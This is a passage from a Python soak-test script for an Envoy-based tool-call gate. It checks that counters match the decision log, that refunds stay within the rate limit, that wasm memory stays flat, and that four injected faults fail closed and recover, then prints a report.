            from_log["decisions_" + counter] += 1
        from_log["risk_stale"] += (rec.get("risk") or {}).get("stale") is True
    for name in ("decisions_shadow_deny", "decisions_fail_open", "control_revocations", "callouts_unknown"):
        from_log[name] = 0
    comparison = {name: {"counter": final.get(name, 0), "log": value} for name, value in from_log.items()}
    for name, c in comparison.items():
        soak.check(c["counter"] == c["log"], f"counter {name} is {c['counter']:.0f}, the log says {c['log']}")
    report["counters"] = comparison
    report["other_counters"] = {k: v for k, v in final.items() if k not in comparison}

    # Rate limit: never more than 5 refunds allowed in 60 consecutive seconds.
    refunds = sorted(unix_seconds(by_rid[r.rid][0]["timestamp"]) for r in requests
                     if r.kind == "refund" and r.rid in by_rid and by_rid[r.rid][0].get("decision") == "allow")
    worst = max((sum(1 for u in refunds if s - 59 <= u <= s) for s in refunds), default=0)
    soak.check(worst <= 5, f"{worst} refunds allowed within 60 s (the policy allows 5)")
    soak.check(len(refunds) > 0, "no refund was ever allowed")
    report["rate_limit"] = {"refunds_allowed": len(refunds), "most_in_60s": worst,
                            "refunds_rate_limited": sum(1 for r in requests if r.kind == "refund" and r.rid in by_rid
                                                        and by_rid[r.rid][0].get("reason") == "rate_limited")}

    report["memory"] = memory(soak)
    report["faults"] = [fault_outcome(soak, f, requests, by_rid) for f in soak.faults]
    soak.check(len(soak.faults) == 4, f"only {len(soak.faults)} of the 4 faults ran")
    return report


def slope(series):
    """Least-squares slope of [(time.time(), bytes)] in bytes per minute (0 for one sample)."""
    if len(series) < 2:
        return 0.0
    ts = [(t - series[0][0]) / 60 for t, _ in series]
    bs = [b for _, b in series]
    mean_t, mean_b = sum(ts) / len(ts), sum(bs) / len(bs)
    var = sum((t - mean_t) ** 2 for t in ts)
    return sum((t - mean_t) * (b - mean_b) for t, b in zip(ts, bs)) / var if var else 0.0


def memory(soak):
    """Per worker VM (one gauge each): its linear memory when first seen, at the end of warm-up
    and at the end; the growth and slope (least squares, bytes per minute) after warm-up, and
    the same up to the accepted policy update, which builds a new gate beside the old one (a
    new high-water mark, once). Fails on growth after warm-up beyond the history bound."""
    samples = soak.samples
    vms = sorted({vm for s in samples for vm in s["vms"]})
    soak.check(len(vms) == 2, f"{len(vms)} VM memory gauges, expected one per worker (2): {vms}")
    reload_at = next((f["good_published_at"] for f in soak.faults if "good_published_at" in f), float("inf"))
    out = {"bound_bytes": MEMORY_BOUND, "vms": {}, "envoy_rss": [s["envoy_rss"] for s in samples],
           "server_memory_allocated": [s["server_memory_allocated"] for s in samples],
           "samples": [{"t": round(s["t"] - soak.load_start), "vms": s["vms"]} for s in samples]}
    for vm in vms:
        series = [(s["t"], s["vms"][vm]) for s in samples if vm in s["vms"]]
        after = [(t, b) for t, b in series if t >= soak.warmup_end] or series[-1:]
        steady = [(t, b) for t, b in after if t < reload_at] or after[:1]
        growth = after[-1][1] - after[0][1]
        out["vms"][vm] = {"first": series[0][1], "warm": after[0][1], "last": after[-1][1], "growth": growth,
                          "slope_bytes_per_min": slope(after),
                          "growth_before_reload": steady[-1][1] - steady[0][1],
                          "slope_before_reload_bytes_per_min": slope(steady),
                          "samples": len(series), "samples_after_warmup": len(after)}
        soak.check(growth <= MEMORY_BOUND,
                   f"VM {vm}: memory grew {growth} bytes after warm-up, beyond the history bound {MEMORY_BOUND}")
    return out


def fault_outcome(soak, fault, requests, by_rid):
    """What the log and the counters showed for one fault, and whether decisions recovered."""
    name, start, end = fault["name"], fault["start"], fault["end"]
    before, after = fault["before"]["counters"], fault["after"]["counters"]

    def delta(counter):
        return after.get(counter, 0) - before.get(counter, 0)

    def recs(pred, lo, hi):
        return [(r, by_rid[r.rid][0]) for r in requests
                if lo <= r.t <= hi and r.rid in by_rid and pred(r, by_rid[r.rid][0])]
    recovered_after = end + GRACE_SECONDS
    out = {"name": name, "seconds": round(end - start, 1)}
    if name == "risk feed hangs":
        stale = recs(lambda r, rec: (rec.get("risk") or {}).get("stale") is True, start, recovered_after)
        high = [x for x in stale if x[0].kind in HIGH_RISK]
        low_allowed = [x for x in stale if x[0].kind in ("read", "search", "weather", "secret") and let_through(x[0])]
        fresh_after = recs(lambda r, rec: (rec.get("risk") or {}).get("stale") is False, end, float("inf"))
        first_fresh = min((r.done for r, _ in fresh_after), default=None)
        out.update(stale_decisions=len(stale), high_risk_refused=sum(1 for _, rec in high if rec.get("decision") == "deny"),
                   high_risk_on_stale=len(high), low_risk_allowed_on_stale=len(low_allowed),
                   feed_errors=delta("risk_feed_errors"), feed_updates=delta("risk_feed_updates"),
                   stale_counter=delta("risk_stale"),
                   recovered_in_seconds=None if first_fresh is None else round(first_fresh - end, 1))
        soak.check(len(stale) > 0, "risk feed hang: no decision saw stale risk")
        soak.check(len(high) > 0 and all(rec.get("decision") == "deny" for _, rec in high),
                   "risk feed hang: high-risk calls on stale risk were not all refused")
        soak.check(delta("risk_feed_errors") > 0, "risk feed hang: toolgate_risk_feed_errors did not rise")
        soak.check(first_fresh is not None, "risk feed hang: risk never became fresh again")
    elif name == "JWKS unreadable":
        failed = recs(lambda r, rec: rec.get("reason") == "token_invalid"
                      and any(JWKS_FAILED in e for e in rec.get("errors") or []), start, recovered_after)
        ok_after = recs(lambda r, rec: r.token and rec.get("decision") == "allow", end, float("inf"))
        first_ok = min((r.done for r, _ in ok_after), default=None)
        out.update(token_invalid=len(failed), answered_401=sum(1 for r, _ in failed if r.status == 401),
                   jwks_fetches=fault["jwks_fetches"], jwks_failed_fetches=fault["jwks_failed_fetches"],
                   deny_counter=delta("decisions_deny"),
                   recovered_in_seconds=None if first_ok is None else round(first_ok - end, 1))
        soak.check(len(failed) > 0, "JWKS fault: no request failed token verification (the fault did not bite)")
        soak.check(first_ok is not None, "JWKS fault: no token-bearing call was allowed after the JWKS came back")
    elif name == "history shards full":
        flood = recs(lambda r, rec: r.kind == "flood", start, recovered_after)
        internal = recs(lambda r, rec: rec.get("reason") == "internal_error", start, recovered_after)
        out.update(sessions=fault["sessions"], capacity=fault["capacity"],
                   flood_allowed=sum(1 for r, _ in flood if let_through(r)), evicted=delta("history_evicted"),
                   expired=delta("history_expired"), conflicts=delta("history_conflicts"),
                   internal_errors=len(internal),
                   evicted_outside_flood=soak.samples[-1]["counters"].get("history_evicted", 0)
                   - delta("history_evicted"))
        soak.check(not internal, f"history flood: {len(internal)} decisions failed closed on internal errors")
        soak.check(delta("history_evicted") >= fault["sessions"] - fault["capacity"],
                   f"history flood: {delta('history_evicted'):.0f} entries evicted for {fault['sessions']} new "
                   f"sessions into a shard of {fault['capacity']}")
        egress = recs(lambda r, rec: r.kind == "egress" and let_through(r.pair), start, recovered_after)
        out["egress_refused_meanwhile"] = f"{sum(1 for _, rec in egress if rec.get('decision') == 'deny')}/{len(egress)}"
    elif name == "policy update rejected":
        versions_before = {rec.get("policy_version") for r, rec in recs(lambda r, rec: True, 0, start)} - {None}
        between = {rec.get("policy_version") for r, rec in recs(lambda r, rec: True, fault["rejected_at"],
                                                                 fault["good_published_at"])} - {None}
        late = {rec.get("policy_version") for r, rec in recs(lambda r, rec: True, end + GRACE_SECONDS,
                                                              float("inf"))} - {None}
        ecds_before, ecds_after = fault["before"]["ecds"], fault["after"]["ecds"]
        out.update(versions_before=sorted(versions_before), versions_while_rejected=sorted(between),
                   versions_after=sorted(late), config_rejected=delta("config_rejected"),
                   ecds_rejected=ecds_after.get("update_rejected", 0) - ecds_before.get("update_rejected", 0),
                   ecds_success=ecds_after.get("update_success", 0) - ecds_before.get("update_success", 0),
                   rejected_in_seconds=round(fault["rejected_at"] - start, 1),
                   accepted_in_seconds=round(fault["accepted_at"] - fault["good_published_at"], 1))
        soak.check(len(versions_before) == 1, f"policy fault: versions before it {versions_before}")
        soak.check(between <= versions_before, f"policy fault: the rejected update changed the version ({between})")
        soak.check(len(late) == 1 and not (late & versions_before),
                   f"policy fault: after the good update, versions {late}")
        soak.check(delta("config_rejected") >= 1, "policy fault: toolgate_config_rejected did not rise")
        soak.check(out["ecds_rejected"] == 1 and out["ecds_success"] == 1,
                   f"policy fault: ECDS rejected {out['ecds_rejected']}, accepted {out['ecds_success']} updates")
    return out


def print_report(report, soak):
    kb = 1024
    print()
    print(f"== soak: {report['requests']} requests in {soak.load_end - soak.load_start:.0f} s "
          f"({report['requests'] / (soak.load_end - soak.load_start):.0f}/s) from {soak.args.clients} clients "
          "over mTLS, Envoy --concurrency 2 ==")
    print(f"decision log lines: {report['log_lines']}; upstream saw {report['upstream']} (= allowed decisions)")
    print("by kind (sent: statuses): " + ", ".join(
        f"{k} {v['sent']}: {'/'.join(f'{s}x{n}' for s, n in sorted(v['statuses'].items()))}"
        for k, v in sorted(report["kinds"].items())))
    print("counters = log: " + ", ".join(f"{n} {c['counter']:.0f}={c['log']}" for n, c in report["counters"].items()))
    print("other counters: " + ", ".join(f"{n} {v:.0f}" for n, v in sorted(report["other_counters"].items())))
    rl = report["rate_limit"]
    print(f"rate limit: {rl['refunds_allowed']} refunds allowed, {rl['refunds_rate_limited']} refused rate_limited, "
          f"at most {rl['most_in_60s']} allowed in any 60 s")
    mem = report["memory"]
    print(f"wasm VM memory (bound on growth after warm-up: {mem['bound_bytes'] // kb} KiB):")
    for vm, m in mem["vms"].items():
        print(f"  VM {vm}: {m['first'] / 2**20:.2f} MiB at first, {m['warm'] / 2**20:.2f} MiB after warm-up, "
              f"{m['last'] / 2**20:.2f} MiB at the end; after warm-up: growth {m['growth'] // kb} KiB, slope "
              f"{m['slope_bytes_per_min']:.0f} bytes/min over {m['samples_after_warmup']} samples; before the "
              f"policy update: growth {m['growth_before_reload'] // kb} KiB, slope "
              f"{m['slope_before_reload_bytes_per_min']:.0f} bytes/min")
    rss = [r for r in mem["envoy_rss"] if r]
    if rss:
        print(f"  Envoy RSS {rss[0] / 2**20:.0f} -> {rss[-1] / 2**20:.0f} MiB (max {max(rss) / 2**20:.0f} MiB)")
    for f in report["faults"]:
        print(f"fault '{f['name']}': " + ", ".join(f"{k} {v}" for k, v in f.items() if k != "name"))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("minutes", type=float, nargs="?", default=10)
    parser.add_argument("--rate", type=float, default=float(os.environ.get("SOAK_RATE", 120)),
                        help="requests per second in all (default 120, or $SOAK_RATE)")
    parser.add_argument("--clients", type=int, default=6)
    parser.add_argument("--report", help="write the report as JSON here")
    parser.add_argument("--pids", help="write the PIDs of the processes started here, for the caller's cleanup")
    args = parser.parse_args()
    if args.minutes <= 0 or args.rate <= 0 or args.clients < 1:
        parser.error("minutes, rate and clients must be positive")
    work = tempfile.mkdtemp(prefix="toolgate-soak-")
    soak = Soak(args, work)
    try:
        soak.run()
        report = analyse(soak)
    except (Exception, KeyboardInterrupt) as e:
        traceback.print_exc()
        print(f"soak.py: the soak could not run: {type(e).__name__}: {e}", file=sys.stderr)
        if soak.failures:
            print("checks failed before that:\n  - " + "\n  - ".join(soak.failures), file=sys.stderr)
        return 2
    finally:
        shutil.rmtree(work, ignore_errors=True)
    report["failures"] = soak.failures
    report["minutes"] = args.minutes
    report["rate"] = args.rate
    report["clients"] = args.clients
    print_report(report, soak)
    if args.report:
        with open(args.report, "w", encoding="utf-8") as f:
            json.dump(report, f, indent=1, default=str)
    if soak.failures:
        print(f"\nSOAK FAILED: {len(soak.failures)} checks failed:", file=sys.stderr)
        for message in soak.failures:
            print(f"  - {message}", file=sys.stderr)
        return 1
    print("\nsoak passed: every request answered as its kind expects, one log line each, counters equal "
          "to the log, VM memory flat, each fault failed closed and recovered")
    return 0


if __name__ == "__main__":
    sys.exit(main())
